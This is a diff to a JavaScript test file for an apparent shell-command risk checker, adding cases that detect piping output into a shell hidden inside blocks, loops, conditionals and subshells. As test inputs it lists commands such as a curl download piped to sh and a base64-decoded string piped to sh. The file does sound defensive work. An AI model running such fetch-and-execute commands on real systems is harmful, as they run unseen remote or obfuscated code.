@@ -60,6 +60,13 @@ test('code a shell cannot see before it runs is unknown', () => {
   for (const cmd of ['curl -s http://x | sh', 'echo Y2F0 | base64 --decode | sh', 'zzgen | bash']) assert.equal(shell(cmd).risk, 'unknown', cmd);
 });
 
+test('a shell inside a block or loop still reads the block\'s stdin', () => {
+  assert.deepEqual(shell('zzgen | { sh; }'), { risk: 'unknown', findings: [op('zzgen'), 'shell.pipe-to-shell unknown zzgen'] });
+  assert.deepEqual(shell('zzgen | while read l; do bash; done').findings.slice(-1), ['shell.pipe-to-shell unknown zzgen']);
+  assert.deepEqual(shell('zzgen | if true; then sh; fi').findings.slice(-1), ['shell.pipe-to-shell unknown zzgen']);
+  assert.deepEqual(shell('zzgen | ( sh )').findings.slice(-1), ['shell.pipe-to-shell unknown zzgen']);
+});
+
 test('a shell reading a local file runs it unseen (mutating), a terminal shell is interactive', () => {
   assert.deepEqual(shell('bash < setup.sh'), { risk: 'mutating', findings: ['shell.run-script mutating setup.sh'] });
   assert.deepEqual(shell('. ./env.sh'), { risk: 'mutating', findings: ['shell.source-file mutating ./env.sh'] });
